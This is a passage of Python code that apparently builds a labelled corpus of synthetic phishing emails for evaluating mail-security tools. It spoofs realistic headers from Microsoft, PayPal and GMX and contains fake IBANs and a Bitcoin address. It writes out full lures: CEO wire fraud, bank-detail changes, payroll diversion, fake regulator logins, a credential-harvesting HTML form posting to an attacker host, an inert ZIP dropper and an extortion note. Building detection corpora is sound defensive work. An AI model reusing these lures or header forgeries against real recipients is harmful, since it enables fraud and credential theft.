    return dict(helo="%s-obe.outbound.protection.outlook.com" % region, rdns="%s%03d.outbound.protection.outlook.com" % (prefix, n),
                ip=ipbase + str(n % 250), bstyle="outlook",
                msgid="<%s%s@%s.eurprd0%d.prod.outlook.com>" % (pre, h(seed, 14).upper(), pre, hnum(seed, 1) % 9 + 1),
                headers=["Thread-Topic: {SUBJ}", "Thread-Index: AQH%s" % base64.b64encode(hashlib.md5(seed.encode()).digest()).decode()[:26],
                         "X-MS-Has-Attach: {ATT}", "X-MS-TNEF-Correlator: ", "Content-Language: {LANG}"])


def GMX(seed, web="gmx"):
    mout = "mout.gmx.net" if web == "gmx" else "mout.web.de"
    ip = "212.227.17.%d" % (20 + hnum(seed, 1)) if web == "gmx" else "212.227.15.%d" % (3 + hnum(seed, 1))
    return dict(helo=mout, ip=ip, bstyle="part",
                hops=["from [192.168.178.%d] ([91.64.%d.%d]) by %s (mrgmx%d) with ESMTPSA (Nemesis) id 1M%s; {DATE}"
                      % (20 + hnum(seed, 1), hnum(seed, 2) % 250, hnum(seed + "z", 2) % 250,
                         "mail.gmx.net" if web == "gmx" else "smtp.web.de", 100 + hnum(seed, 1), h(seed, 14))],
                msgid="<trinity-%s-%s-%s-%s-%s@3c-app-%s-bs0%d>" % (h(seed, 8), h(seed + "1", 4), h(seed + "2", 4), h(seed + "3", 4), h(seed + "4", 12), web, hnum(seed, 1) % 4 + 1),
                headers=["Importance: normal", "Sensitivity: Normal"])


def DRIVEN(seed, helo, rdns, ip, dom, mailer=None, internal_host=None):
    d = dict(helo=helo, rdns=rdns, ip=ip, mailer=mailer,
             msgid="<%s$%s@%s>" % (h(seed, 12), h(seed + "m", 8), dom) if mailer and "Outlook" in mailer else None)
    if internal_host:
        d["hops"] = ["from %s ([%s]) by %s with ESMTPSA id %s; {DATE}" % internal_host]
    return d


MSO = "X-Mailer: Microsoft Outlook 16.0"
TB = "User-Agent: Mozilla Thunderbird"
APPLE_IPH = "X-Mailer: iPhone Mail (22B91)"
RC = "User-Agent: Roundcube Webmail/1.6.9"


def fill(m):
    """Resolve template placeholders inside extra headers and hops."""
    subj = m["subject"]
    hdrs = []
    for x in m.get("headers", []):
        if "{SUBJ}" in x:
            s = re.sub(r"^(AW|RE|Re|R|Odp|RV|ΑΠ|Ответ|Fwd|WG|I|FW|Fw):\s*", "", subj)
            x = "Thread-Topic: " + hdr_text(s, m.get("hcharset", m.get("charset", "utf-8")), "Q" if m["lang"] not in ("el", "ru") else "B")
        x = x.replace("{LANG}", {"de": "de-DE", "en": "en-GB", "it": "it-IT", "pl": "pl-PL", "es": "es-ES", "el": "el-GR", "ru": "ru-RU"}[m["lang"]])
        x = x.replace("{ATT}", "yes" if m.get("attachments") else "")
        hdrs.append(x)
    m["headers"] = hdrs
    rc = m.get("rcpt", m["to"][0][1])
    m["hops"] = [x.replace("{RCPT}", rc) for x in m.get("hops", [])]
    if m.get("msgid") is None:
        m.pop("msgid", None)
    return m


def MX(kind, name, lang, infra, **kw):
    d = dict(infra)
    extra_h = kw.pop("headers", [])
    d["headers"] = list(d.get("headers", [])) + extra_h
    extra_hops = kw.pop("hops", [])
    d["hops"] = list(d.get("hops", [])) + extra_hops
    if d.get("mailer") is None:
        d.pop("mailer", None)
    if d.get("msgid") is None:
        d.pop("msgid", None)
    d.update(kw)
    x = fill(dict(d, lang=lang, kind=kind, name=name))
    for k in ("kind", "name", "lang"):
        x.pop(k)
    M(kind, name, lang, **x)


def P(fn, title, lines=()):
    return dict(filename=fn, ctype="application/pdf", data=pdf_placeholder(title, lines))


# common people tuples
def st(key):
    return S[key]


KB = ("Katharina Brandt", "katharina.brandt@example.com")
PDF = P
BTC = btc_p2wpkh("example-group-audit38-extortion-2026")

# ---- banking data (all check digits computed) ----
IBAN_LIEFERANT_OLD = iban_de("20050550", "123481906")          # Hamburger Sparkasse (method 00)
IBAN_LIEFERANT_NEW_GENUINE = iban_de("20040000", "412203315")  # genuine change (Commerzbank HH)
IBAN_LIEFERANT_FAKE = iban_de("11010100", "274015388")         # fraud: neobank mule account
IBAN_PAYROLL_FAKE_DE = iban_de("10011001", "262744931")        # fraud: payroll diversion (neobank)
IBAN_FERRETTI_GENUINE = iban_it("05034", "11100", "000000024713")
IBAN_FERRETTI_FAKE = iban_it("03069", "09606", "100000131582")
IBAN_STUDIO_FAKE = iban_it("36772", "22300", "EM001894410N")
IBAN_PL_FAKE = iban_pl("109", "1014", "0000071229384716")
IBAN_PL_GENUINE_TU = iban_pl("124", "0001", "1111001087654321")
IBAN_PL_PARTNER = iban_pl("114", "2004", "0000340512345678")
IBAN_LT_REVOLUT = iban("LT", "32500" + "74218830591")
IBAN_ES_FAKE = iban_es("0081", "0216", "0007349102")
IBAN_ES_TALLER = iban_es("2100", "2837", "0200193841")
IBAN_GR_FAKE = iban("GR", "026" + "0174" + "0000590201448827")
IBAN_GR_KARAG = iban("GR", "017" + "0172" + "0005172049988211")
IBAN_GR_ADJ_NEW = iban("GR", "014" + "0101" + "0101002330017451")
IBAN_GB_PENNINE = iban("GB", "NWBK" + "601613" + "48291057")
IBAN_GB_HMRC_FAKE = iban("GB", "MONZ" + "040004" + "71829365")
BIK_SBER = "044525225"
BIK_TOCHKA = "044525104"
RU_ACC_FAKE = ru_account(BIK_TOCHKA, "4070281" + "0" + "00000037184")
RU_ACC_LANDLORD = ru_account(BIK_SBER, "4070281" + "0" + "38000012907")
INN_FAKE = ru_inn10("772841503")
INN_LANDLORD = ru_inn10("770406217")
INN_TRANSLOG = ru_inn10("502781644")
PL_NIP_PARTNER = pl_nip("778142563")
PL_NIP_AUTOSERWIS = pl_nip("781190244")
IT_PIVA_FERRETTI = it_piva("0284713016")
DE_UST_LIEFERANT = de_ustid("28145517")
DE_UST_EG = de_ustid("31887214")
GR_AFM_KARAG = gr_afm("09984471")
ES_CIF_TALLER = es_cif_b("8641027")
ES_CIF_FAKE = es_cif_b("8815330")


# ===========================================================================
# ATTACK MESSAGES
# ===========================================================================
A = "attack"

MX(A, "01-de-ceo-fraud-lookalike-domain", "de",
   M365("a01", "EUR03-FR2", "mail-fr2deu01on2", "40.107.135."),
   frm=("Katharina Brandt", "katharina.brandt@examplegroup-eu.com"),
   to=[st("hoffmann")], date="2026-11-12 16:47:31 +0100", charset="utf-8", cte="quoted-printable",
   subject="Vertraulich – Projekt Nordlicht",
   text="""Hallo Matthias,

bist Du heute noch im Büro? Ich sitze bis mindestens 19 Uhr mit den Anwälten in Wien und kann nicht telefonieren.

Wie im letzten Board-Call angedeutet: Die Übernahme des Maklerbestands in Österreich ist durch, das Signing ist heute Abend. Bis zur offiziellen Kommunikation gilt strikte Vertraulichkeit, bitte auch nicht mit Sabine oder dem Team darüber sprechen – die Gegenseite besteht darauf.

Für das Signing muss heute noch die vereinbarte Anzahlung von 186.400,00 EUR auf das Treuhandkonto der Kanzlei. Dr. Felix Auer (Auer Lindtner Rechtsanwälte) meldet sich gleich per Mail bei Dir mit Kontodaten und Treuhandvereinbarung. Bitte gib das als Eilüberweisung frei und schick mir nur kurz die Ausführungsbestätigung hierher.

Ich rufe Dich heute Abend an. Danke Dir, ich weiß, das ist kurzfristig.

Katharina

Von meinem iPhone gesendet
""",
   mailer=None, reply_to=("Katharina Brandt", "k.brandt.board@examplegroup-eu.com"),
   desc="CEO fraud (BEC): look-alike domain examplegroup-eu.com (vs examplegroup.eu), secrecy, urgent 'escrow' wire, Reply-To diverted.",
   why="Sender domain is not the company's; attacker-registered M365 tenant; classic CEO-fraud pattern.")

MX(A, "02-de-supplier-bank-change-lookalike", "de",
   DRIVEN("a02", "mail.lieferant-gmbh.com", "vmi2384411.contaboserver.net", "185.215.164.77", "lieferant-gmbh.com", RC),
   frm=("Stefan Maier", "s.maier@lieferant-gmbh.com"), to=[st("krüger")], cc=[st("weber")],
   date="2026-11-04 10:12:08 +0100", charset="iso-8859-1", cte="quoted-printable",
   subject="AW: Offene Posten Lieferant GmbH / Kd.-Nr. 40817",
   in_reply_to="<8c1f2a77e0b94b2c@example.com>",
   text="""Guten Morgen Frau Krüger,

vielen Dank für die schnelle Rückmeldung zu den offenen Posten.

Wir haben im Zuge der Umstellung unseres Zahlungsverkehrs (neues ERP und Wechsel der Hausbank) unsere Bankverbindung geändert. Das bisherige Konto bei der Hamburger Sparkasse wird nur noch bis zum Jahresende für Lastschriften genutzt; Zahlungseingänge können dort ab sofort nicht mehr zugeordnet werden.

Bitte überweisen Sie die beiden offenen Rechnungen

  RE-2026-11193 vom 02.10.2026   14.212,40 EUR
  RE-2026-11241 vom 09.10.2026    9.634,50 EUR
  Summe                          23.846,90 EUR

ab sofort auf unsere neue Verbindung:

  Kontoinhaber: Lieferant GmbH
  IBAN: %s
  BIC: SOBKDEB2XXX

Das Schreiben unserer Geschäftsführung mit der neuen Bankverbindung finden Sie im Anhang. Wenn möglich, wäre eine Zahlung bis Freitag sehr hilfreich, da wir die Konten zum Quartalsabschluss abstimmen müssen.

Für Rückfragen bin ich gerne per Mail erreichbar, telefonisch bin ich diese Woche leider nur eingeschränkt verfügbar (Messe).

Mit freundlichen Grüßen

Stefan Maier
Vertrieb Innendienst
Lieferant GmbH
Hanseatenweg 14 | 22525 Hamburg
USt-IdNr. %s

-----Ursprüngliche Nachricht-----
Von: Sabine Krüger <sabine.krueger@example.com>
Gesendet: Dienstag, 3. November 2026 15:41
An: Stefan Maier <s.maier@lieferant-gmbh.de>
Betreff: Offene Posten Lieferant GmbH / Kd.-Nr. 40817

Hallo Herr Maier,

anbei wie besprochen unsere OP-Liste. Die RE-2026-11193 und -11241 sind bei uns zur Zahlung vorgesehen.

Viele Grüße
Sabine Krüger
Example Group | Kreditorenbuchhaltung
""" % (fmt_iban(IBAN_LIEFERANT_FAKE), DE_UST_LIEFERANT),
   attachments=[P("Bankverbindung_Lieferant_GmbH_2026.pdf", "Lieferant GmbH - Mitteilung neue Bankverbindung",
                  ["Sehr geehrte Geschaeftspartner,", "ab sofort gilt unsere neue Bankverbindung:",
                   "IBAN " + fmt_iban(IBAN_LIEFERANT_FAKE), "BIC SOBKDEB2XXX", "Geschaeftsfuehrung Lieferant GmbH"])],
   desc="Supplier bank-detail change in hijacked thread from look-alike lieferant-gmbh.com (genuine: .de); new IBAN at a neobank; PDF 'letter'.",
   why="Look-alike domain on a VPS, quoted real thread (mailbox/thread compromise), urgency, phone avoidance -> invoice/BEC fraud.")

MX(A, "03-de-fake-ihk-vermittlerregister", "de",
   dict(helo="o2184.ptr9120.vermittlerregister-pruefung.de", rdns="o2184.ptr9120.vermittlerregister-pruefung.de", ip="149.72.171.84",
        return_path="bounces+40117388-9c1e-claudia.neumann=example.com@em7791.vermittlerregister-pruefung.de"),
   frm=("DIHK Vermittlerregister", "noreply@vermittlerregister-pruefung.de"), to=[st("neumann")],
   date="2026-11-16 08:03:55 +0100", charset="utf-8", cte="base64",
   subject="Registrierung D-6HKQ-TR4PX-21: Nachweis der Berufshaftpflicht unvollständig",
   headers=["List-Unsubscribe: <https://u40117388.ct.sendgrid.net/lu/unsubscribe?oid=u40117388>"],
   html="""<!DOCTYPE html><html lang="de"><head><meta charset="utf-8"><title>Vermittlerregister</title></head>
<body style="font-family:Arial,Helvetica,sans-serif;color:#1a1a1a;background:#f3f5f7;margin:0">
<table width="100%" cellpadding="0" cellspacing="0"><tr><td align="center">
<table width="600" cellpadding="24" cellspacing="0" style="background:#ffffff;margin-top:20px">
<tr><td style="border-bottom:4px solid #003a70"><b style="color:#003a70;font-size:18px">Vermittlerregister</b><br>
<span style="font-size:12px;color:#555">Gemeinsame Stelle nach § 11a GewO</span></td></tr>
<tr><td style="font-size:14px;line-height:1.5">
<p>Sehr geehrte Damen und Herren,</p>
<p>für die Eintragung <b>D-6HKQ-TR4PX-21</b> (Example Group, Versicherungsmakler mit Erlaubnis nach § 34d Abs. 1 GewO) liegt uns zum Stichtag 31.10.2026 keine aktuelle Bestätigung Ihres Versicherers über die Berufshaftpflichtversicherung (Versicherungsbestätigung nach § 9 VersVermV) vor.</p>
<p>Gemäß den Vorgaben Ihrer Registrierungsstelle ist der Nachweis bis zum <b>27.11.2026</b> im Registerportal zu bestätigen. Nach Ablauf der Frist wird die Eintragung als „ruhend“ gekennzeichnet und die zuständige IHK informiert.</p>
<p style="text-align:center;margin:28px 0"><a href="https://vermittlerregister-pruefung.de/portal/login?reg=D-6HKQ-TR4PX-21&amp;ref=vh2026" style="background:#003a70;color:#fff;padding:12px 26px;text-decoration:none;border-radius:3px">Nachweis im Registerportal bestätigen</a></p>
<p>Die Anmeldung erfolgt mit der bei der Registrierung hinterlegten E-Mail-Adresse und Ihrem Passwort.</p>
<p>Mit freundlichen Grüßen<br>Ihr Team Vermittlerregister</p>
</td></tr>
<tr><td style="font-size:11px;color:#777">Diese Nachricht wurde automatisch erstellt. Bitte antworten Sie nicht auf diese E-Mail.</td></tr>
</table></td></tr></table></body></html>""",
   desc="Fake German broker-register (Vermittlerregister/IHK) notice: credential lure to look-alike portal, sent via bulk ESP.",
   why="Authority impersonation typical for a §34d broker; link to attacker domain; deadline pressure.")

_owa = """<!DOCTYPE html>
<html><head><meta charset="utf-8"><title>Nordstern Maklerportal – Anmeldung</title>
<style>body{font-family:Segoe UI,Arial,sans-serif;background:#eef1f4}.box{width:360px;margin:80px auto;background:#fff;padding:32px;box-shadow:0 2px 6px #0002}
input{width:100%;padding:8px;margin:6px 0 14px;border:1px solid #aab}button{background:#0b3d6e;color:#fff;border:0;padding:10px 18px}</style></head>
<body><div class="box"><h2 style="color:#0b3d6e">Nordstern Maklerportal</h2>
<p>Ihre Courtageabrechnung Q4/2026 ist geschützt. Bitte melden Sie sich mit Ihrem Microsoft-365-Konto an, um das Dokument anzuzeigen.</p>
<form method="post" action="https://nordstern-makler.de.auth-session.com/m/verify.php">
<label>E-Mail</label><input type="email" name="login" value="lena.vogel@example.com">
<label>Kennwort</label><input type="password" name="passwd">
<button type="submit">Dokument öffnen</button></form>
<!-- evaluation corpus: inert credential-harvesting page pattern, endpoint is fictitious --></div></body></html>"""

MX(A, "04-de-fake-insurer-portal-html-attachment", "de",
   DRIVEN("a04", "mail.nordstern-makler.de", "static.88.214.99.142.clients.your-server.de", "142.99.214.88", "nordstern-makler.de"),
   frm=("Nordstern Versicherung AG - Maklerservice", "maklerservice@nordstern-makler.de"),
   to=[st("vogel")], cc=[st("becker")], date="2026-11-23 07:31:12 +0100", charset="iso-8859-15", cte="quoted-printable",
   subject="Courtageabrechnung 4. Quartal 2026 – Vermittlernummer 0047-118822",
   text="""Sehr geehrte Damen und Herren,

Ihre Courtageabrechnung für das 4. Quartal 2026 (Abschlags- und Bestandscourtage Kraftfahrt-Flotte) wurde erstellt.

Abrechnungsnummer: CA-2026-Q4-118822
Gutschriftsbetrag: 38.914,27 EUR
Zahlungstermin: 01.12.2026

Aus Datenschutzgründen stellen wir die Abrechnung ab diesem Quartal nur noch als geschütztes Dokument zur Verfügung. Bitte öffnen Sie die angehängte Datei und melden Sie sich mit Ihrem Geschäftskonto an.

Bei Abweichungen wenden Sie sich bitte innerhalb von 14 Tagen an Ihren Maklerbetreuer.

Mit freundlichen Grüßen

Nordstern Versicherung AG
Maklerservice Komposit
""",
   attachments=[dict(filename="Courtageabrechnung_Q4_2026_0047-118822.html", ctype="text/html; charset=utf-8", data=_owa.encode("utf-8"))],
   desc="Insurer-brand phishing: fake 'Nordstern Maklerportal' commission statement; HTML attachment with credential form posting to attacker host.",
   why="Look-alike of the insurer's domain (genuine nordstern-versicherung.de) on a rented server; HTML-attachment credential harvesting.")

_zip05 = zip_bytes([("Gutachten_SCH-2026-04417/Gutachten_SCH-2026-04417.pdf.lnk", INERT, (2026, 11, 18, 9, 2, 10)),
                    ("Gutachten_SCH-2026-04417/Lichtbilder_HH-EG4471.js", INERT, (2026, 11, 18, 9, 2, 10))])
MX(A, "05-de-loss-adjuster-zip-dropper", "de",
   DRIVEN("a05", "dd38214.kasserver.com", "dd38214.kasserver.com", "85.13.163.214", "kfz-sv-lindner.de", MSO),
   frm=("Sachverständigenbüro Lindner", "gutachten@kfz-sv-lindner.de"), to=[st("schulte")],
   date="2026-11-18 09:04:40 +0100", charset="iso-8859-1", cte="quoted-printable",
   subject="AW: Schaden SCH-2026-04417 / HH-EG 4471 – Gutachten und Lichtbilder",
   in_reply_to="<000a01dc4f1e$3b2c1d40$b1845fc0$@example.com>",
   text="""Sehr geehrter Herr Schulte,

wie telefonisch besprochen übersenden wir Ihnen das Gutachten zum o. g. Schaden (Fahrzeug MAN TGX, amtl. Kennz. HH-EG 4471) inkl. Lichtbildmappe und Reparaturkostenkalkulation.

Aufgrund der Dateigröße haben wir die Unterlagen komprimiert. Die Kalkulation weist Reparaturkosten von 18.742,16 EUR netto aus, der Wiederbeschaffungswert liegt deutlich darüber, es handelt sich also um einen Reparaturschaden.

Für Rückfragen stehen wir gerne zur Verfügung.

Mit freundlichen Grüßen

i. A. Jana Köster
Sachverständigenbüro Lindner
Kfz-Sachverständige für Schadens- und Wertgutachten
Billstraße 112 | 20539 Hamburg
""",
   attachments=[dict(filename="Gutachten_SCH-2026-04417.zip", ctype="application/x-zip-compressed", data=_zip05)],
   desc="Malware dropper from a compromised genuine appraiser domain: 'Gutachten' ZIP containing .pdf.lnk and .js (inert placeholders).",
   why="Double-extension shortcut and script in archive; thread-reply lure on a real-looking claim reference.")

MX(A, "06-de-payroll-diversion-gmx", "de", GMX("a06"),
   frm=("Lena Vogel", "lena.vogel.hh@gmx.de"), to=[st("richter")],
   date="2026-11-19 12:26:03 +0100", charset="iso-8859-15", cte="quoted-printable",
   subject="Neue Bankverbindung für mein Gehalt",
   text="""Hallo Anja,

ich habe mein Girokonto gewechselt und wollte fragen, ob du die neue Bankverbindung noch für die November-Abrechnung übernehmen kannst:

Kontoinhaberin: Lena Vogel
IBAN: %s
Bank: N26

Das alte Konto bei der Haspa löse ich Ende des Monats auf. Ich schreibe dir von privat, weil ich gerade beim Kunden in Bremen bin und Outlook auf dem Handy mal wieder streikt. Falls du ein Formular brauchst, schick es mir gern einfach hierher.

Danke dir und liebe Grüße
Lena
""" % fmt_iban(IBAN_PAYROLL_FAKE_DE),
   desc="Payroll diversion: 'employee' writes from a free mailer asking HR to change salary account to a neobank IBAN.",
   why="Impersonation of staff from gmx.de, request to reply off-channel; payroll-diversion BEC.")

MX(A, "07-de-paypal-invoice-callback-abuse", "de",
   dict(helo="mx0.slc.paypal.com", rdns="mx0.slc.paypal.com", ip="173.0.84.226", bstyle="part",
        return_path="service@paypal.de", msgid="<%s.CMSINV-%s@paypal.com>" % (h("a07", 10), hnum("a07", 8)),
        headers=["X-Email-Type-Id: PPX000586", "X-MaxCode-Template: PPX000586", "X-XPT-XSL-Name: nameddynamic"]),
   frm=("service@paypal.de", "service@paypal.de"), to=[st("weber")],
   date="2026-11-26 11:52:14 +0100", charset="utf-8", cte="quoted-printable",
   subject="Rechnung von Secure Renewal Services (0041)",
   text="""Secure Renewal Services hat Ihnen eine Rechnung über 749,99 EUR gesendet.

Rechnungsdetails
Rechnungsnummer: 0041
Fällig am: 26. Nov. 2026
Betrag: 749,99 EUR

Hinweis des Verkäufers:
Ihre Jahreslizenz Norton 360 Business (10 Geräte) wurde automatisch verlängert. Der Betrag wird heute von Ihrem PayPal-Konto eingezogen. Wenn Sie diese Verlängerung nicht veranlasst haben, rufen Sie innerhalb von 24 Stunden unseren Abrechnungsservice an: +49 32 221 849 663 (Mo–Sa 8–20 Uhr). Danach ist keine Erstattung mehr möglich.

Rechnung ansehen und bezahlen:
https://www.paypal.com/invoice/p/#INV2-7WQK-3M9D-8LXA-2HRT

Copyright © 1999-2026 PayPal. Alle Rechte vorbehalten.
PayPal (Europe) S.à r.l. et Cie, S.C.A., 22-24 Boulevard Royal, L-2449 Luxembourg
""",
   html="""<html><body style="font-family:Arial,sans-serif;font-size:14px;color:#2c2e2f">
<table width="600" align="center"><tr><td><img src="https://www.paypalobjects.com/digitalassets/c/website/logo/full-text/pp_fc_hl.svg" alt="PayPal" height="28"></td></tr>
<tr><td><h2 style="font-weight:normal">Secure Renewal Services hat Ihnen eine Rechnung über 749,99&nbsp;EUR gesendet</h2>
<p><b>Rechnungsnummer:</b> 0041<br><b>Fällig am:</b> 26. Nov. 2026</p>
<p style="background:#f5f7fa;padding:12px"><b>Hinweis des Verkäufers:</b><br>Ihre Jahreslizenz Norton 360 Business (10 Geräte) wurde automatisch verlängert. Der Betrag wird heute von Ihrem PayPal-Konto eingezogen. Wenn Sie diese Verlängerung nicht veranlasst haben, rufen Sie innerhalb von 24 Stunden unseren Abrechnungsservice an: <b>+49 32 221 849 663</b> (Mo–Sa 8–20 Uhr). Danach ist keine Erstattung mehr möglich.</p>
<p><a href="https://www.paypal.com/invoice/p/#INV2-7WQK-3M9D-8LXA-2HRT" style="background:#0070e0;color:#fff;padding:10px 22px;border-radius:20px;text-decoration:none">Rechnung ansehen und bezahlen</a></p>
<p style="font-size:11px;color:#6c7378">Copyright © 1999-2026 PayPal. Alle Rechte vorbehalten.<br>PayPal (Europe) S.à r.l. et Cie, S.C.A., 22-24 Boulevard Royal, L-2449 Luxembourg</p>
</td></tr></table></body></html>""",
   desc="Callback phishing abusing a genuine PayPal invoice: scam text and phone number in the seller note, sent through PayPal's own servers.",
   why="Headers are genuine PayPal, but the content is a fake 'renewal' to make the victim call a scam number (TOAD).")

MX(A, "08-de-extortion-data-leak-btc", "de",
   dict(helo="mail-4322.protonmail.ch", rdns="mail-4322.protonmail.ch", ip="185.70.43.22", bstyle="part",
        msgid="<%s=@proton.me>" % base64.b64encode(hashlib.sha256(b"a08").digest()).decode()[:42].replace("/", "_")),
   frm=("Incident Desk", "leakdesk-eg2026@proton.me"), to=[KB], cc=[st("neumann")],
   date="2026-12-01 06:14:51 +0100", charset="utf-8", cte="base64",
   subject="Example Group – Kundendaten / 72 Stunden",
   text="""Sehr geehrte Frau Dr. Brandt,

wir hatten zwischen dem 9. und 21. November Zugriff auf Ihr Dokumentenmanagement und Ihre Schadenablage. Dabei wurden ca. 41 GB kopiert, u. a.:

- Schadenakten Kfz-Flotte 2019–2026 mit Gutachten, Fahrerdaten und Führerscheinkopien
- Personenschadenakten mit ärztlichen Attesten
- Bestands- und Provisionslisten, Courtagevereinbarungen
- Buchhaltungsexporte Kundengeldkonten

Auszüge zur Verifizierung (Dateinamen):
  \\\\fs02\\Schaden\\2025\\PS-2025-0311_Attest_Krankenhaus.pdf
  \\\\fs02\\Bestand\\Flotte\\Courtage_2026_final.xlsx
  \\\\fs02\\FiBu\\Treuhand\\OP_Kundengelder_Okt26.csv

Wir verlangen 2,35 BTC an folgende Adresse:

%s

Nach Zahlungseingang löschen wir die Daten und Sie erhalten einen Bericht über die ausgenutzte Schwachstelle. Erfolgt innerhalb von 72 Stunden keine Zahlung, informieren wir Ihre Versicherungsnehmer, die zuständige Datenschutzaufsicht und die Fachpresse und veröffentlichen die Daten.

Eine Meldung nach Art. 33 DSGVO hilft Ihnen dann nicht mehr. Antworten Sie an diese Adresse.
""" % BTC,
   desc="Data-theft extortion against the CEO (claims files, health data), ransom in Bitcoin (valid bech32 address) via Proton Mail.",
   why="Extortion with crypto payment demand; no business relationship; free anonymous mailer.")

# -------------------------- English ------------------------------------------
MX(A, "09-en-fake-fca-connect-notice", "en",
   dict(helo="a11-34.smtp-out.eu-west-2.amazonses.com", rdns="a11-34.smtp-out.eu-west-2.amazonses.com", ip="76.223.180.34", bstyle="part",
        return_path="0102019a6e2b8c31-%s-000000@eu-west-2.amazonses.com" % h("a09", 8),
        msgid="<0102019a6e2b8c31-%s-000000@eu-west-2.amazonses.com>" % h("a09m", 8)),
   frm=("FCA Connect", "notifications@fca-connect-services.uk"), to=[st("whitfield")],
   date="2026-11-09 09:21:37 +0000", charset="utf-8", cte="quoted-printable",
   subject="Firm reference 915274: annual REP-CRIM / controllers confirmation overdue",
   text="""Financial Conduct Authority – FCA Connect

Firm: Example Group (UK branch)
Firm reference number: 915274

Our records show that the annual confirmation of controllers and close links, together with your REP-CRIM data return, has not been submitted for the reporting period ending 30 September 2026.

Under SUP 16.12 and SUP 11 you are required to submit this information within 60 business days. If the confirmation is not received by 20 November 2026 your firm may be subject to an administrative fee of £250 and further supervisory action.

To review and submit, sign in to FCA Connect:
https://connect.fca-connect-services.uk/s/login/?frn=915274

If you have already submitted this return, please disregard this message.

Financial Conduct Authority
12 Endeavour Square, London E20 1JN
""",
   html="""<html><body style="font-family:Arial,sans-serif;color:#222;font-size:14px">
<div style="background:#701b45;color:#fff;padding:14px 20px;font-size:18px">Financial Conduct Authority &nbsp;|&nbsp; FCA Connect</div>
<div style="padding:20px;max-width:620px">
<p><b>Firm:</b> Example Group (UK branch)<br><b>Firm reference number:</b> 915274</p>
<p>Our records show that the annual confirmation of controllers and close links, together with your REP-CRIM data return, has not been submitted for the reporting period ending 30 September 2026.</p>
<p>Under SUP 16.12 and SUP 11 you are required to submit this information within 60 business days. If the confirmation is not received by <b>20 November 2026</b> your firm may be subject to an administrative fee of £250 and further supervisory action.</p>
<p><a href="https://connect.fca-connect-services.uk/s/login/?frn=915274" style="background:#701b45;color:#fff;padding:10px 20px;text-decoration:none">Sign in to FCA Connect</a></p>
<p style="color:#666;font-size:12px">If you have already submitted this return, please disregard this message.<br>Financial Conduct Authority, 12 Endeavour Square, London E20 1JN</p></div></body></html>""",
   desc="Fake UK regulator (FCA Connect) notice with fee threat; credential lure on look-alike domain, sent via Amazon SES.",
   why="Regulator impersonation; domain fca-connect-services.uk is not fca.org.uk; login link to attacker site.")

MX(A, "10-en-microsoft-billing-callback-abuse", "en",
   dict(helo="NAM12-DM6-obe.outbound.protection.outlook.com", rdns="mail-dm6nam12on2057.outbound.protection.outlook.com",
        ip="40.107.243.57", bstyle="outlook", return_path="msonlineservicesteam@microsoftonline.com",
        msgid="<%s@SA1PR21MB1856.namprd21.prod.outlook.com>" % h("a10", 32).upper()),
   frm=("Microsoft", "microsoft-noreply@microsoft.com"), to=[st("whitfield")],
   date="2026-11-18 04:11:09 -0800", charset="utf-8", cte="base64",
   subject="Your Microsoft order on November 18, 2026",
   text="""Microsoft

Thank you for your order.

Organization: Billing Dept. – Your account was charged GBP 489.99 for Microsoft 365 E5 (annual). If you did not authorise this charge call Microsoft Billing Support +44 20 7946 0418 to cancel within 24 hours

Order number: 4F7C2D91-0B3A-4E5A-9C4B-1D8E0F6A2C77
Order date: November 18, 2026
Product: Microsoft 365 E5 (no Teams)
Quantity: 25
Total: GBP 489.99

Payment method: Visa ****4421

Microsoft Corporation, One Microsoft Way, Redmond, WA 98052 USA
Privacy Statement: https://go.microsoft.com/fwlink/?LinkId=521839
""",
   html="""<html><body style="font-family:Segoe UI,Arial,sans-serif;font-size:14px;color:#262626">
<table width="640" align="center" cellpadding="12"><tr><td><b style="font-size:20px;color:#737373">Microsoft</b></td></tr>
<tr><td><h1 style="font-weight:600;font-size:26px">Thank you for your order</h1>
<p><b>Organization:</b> Billing Dept. – Your account was charged GBP 489.99 for Microsoft 365 E5 (annual). If you did not authorise this charge call Microsoft Billing Support +44 20 7946 0418 to cancel within 24 hours</p>
<table cellpadding="4" style="font-size:13px"><tr><td>Order number</td><td>4F7C2D91-0B3A-4E5A-9C4B-1D8E0F6A2C77</td></tr>
<tr><td>Order date</td><td>November 18, 2026</td></tr><tr><td>Product</td><td>Microsoft 365 E5 (no Teams)</td></tr>
<tr><td>Quantity</td><td>25</td></tr><tr><td>Total</td><td>GBP 489.99</td></tr><tr><td>Payment method</td><td>Visa ****4421</td></tr></table>
<p style="font-size:11px;color:#737373">Microsoft Corporation, One Microsoft Way, Redmond, WA 98052 USA<br>
<a href="https://go.microsoft.com/fwlink/?LinkId=521839">Privacy Statement</a></p></td></tr></table></body></html>""",
   desc="Callback phishing abusing genuine Microsoft 365 commerce mail: attacker tenant's organisation name carries fake charge and phone number.",
   why="Genuine Microsoft infrastructure, but the 'Organization' field is attacker text steering the victim to a scam call centre.")

_qr_url = "https://mfa-reg.app/eg/enrol?u=c2FyYWguY29sbGluc0BleGFtcGxlLmNvbQ&s=7Kq2"
QR_PNG = qr_png(_qr_url, "M")
MX(A, "11-en-qr-code-mfa-reenrolment", "en",
   dict(helo="wrqvtzvf.outbound-mail.sendgrid.net", rdns="wrqvtzvf.outbound-mail.sendgrid.net", ip="149.72.154.232", bstyle="part",
        return_path="bounces+48812091-a2f3-sarah.collins=example.com@em3321.examplegroup-it.com"),
   frm=("Example Group IT Service Desk", "servicedesk@examplegroup-it.com"), to=[st("collins")],
   date="2026-11-24 08:02:44 +0000", charset="utf-8", cte="quoted-printable",
   subject="Action required: re-register Microsoft Authenticator by 27 November",
   text="""Example Group IT Service Desk

As part of the migration to phishing-resistant sign-in, all users must re-register Microsoft Authenticator by 27 November 2026. Accounts that are not re-registered will be blocked from Outlook and Teams on mobile devices.

Scan the QR code in this message with your phone camera to start. The process takes about two minutes.

IT Service Desk
""",
   html="""<html><body style="font-family:Segoe UI,Arial,sans-serif;font-size:14px;color:#222">
<div style="max-width:560px;margin:auto;border:1px solid #ddd">
<div style="background:#1f3b63;color:#fff;padding:12px 18px"><b>Example Group</b> &middot; IT Service Desk</div>
<div style="padding:18px">
<p>Hello Sarah,</p>
<p>As part of the migration to phishing-resistant sign-in, all users must re-register <b>Microsoft Authenticator</b> by <b>27 November 2026</b>. Accounts that are not re-registered will be blocked from Outlook and Teams on mobile devices.</p>
<p>Scan the code below with your phone camera to start. The process takes about two minutes.</p>
<p style="text-align:center"><img src="cid:qr-%s@examplegroup-it.com" width="222" height="222" alt=""></p>
<p style="font-size:12px;color:#666">Ticket INC0488217 &middot; This is an automated message.</p>
</div></div></body></html>""" % h("a11q", 10),
